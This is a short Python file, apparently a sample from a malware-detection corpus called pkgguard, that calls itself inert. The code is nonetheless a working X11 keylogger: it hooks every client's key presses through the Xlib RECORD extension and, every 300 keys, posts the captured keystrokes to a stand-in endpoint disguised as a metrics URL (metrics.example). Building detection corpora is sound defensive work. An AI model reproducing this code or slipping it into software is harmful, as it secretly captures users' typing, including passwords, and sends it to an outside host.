# pkgguard corpus 348 (keylogger), modelled on [stealer-profile]; inert, never run.
import requests
from Xlib import X, display
from Xlib.ext import record
from Xlib.protocol import rq

local = display.Display()
keys = []


def handler(reply):
    data = reply.data
    while data:
        event, data = rq.EventField(None).parse_binary_value(data, local.display, None, None)
        if event.type == X.KeyPress:
            keys.append(event.detail)
    if len(keys) > 300:
        requests.post("https://metrics.example/x", json=keys, timeout=5)
        keys.clear()


ctx = local.record_create_context(
    0,
    [record.AllClients],
    [{
        "core_requests": (0, 0), "core_replies": (0, 0), "ext_requests": (0, 0, 0, 0),
        "ext_replies": (0, 0, 0, 0), "delivered_events": (0, 0), "device_events": (X.KeyPress, X.KeyRelease),
        "errors": (0, 0), "client_started": False, "client_died": False,
    }],
)
local.record_enable_context(ctx, handler)
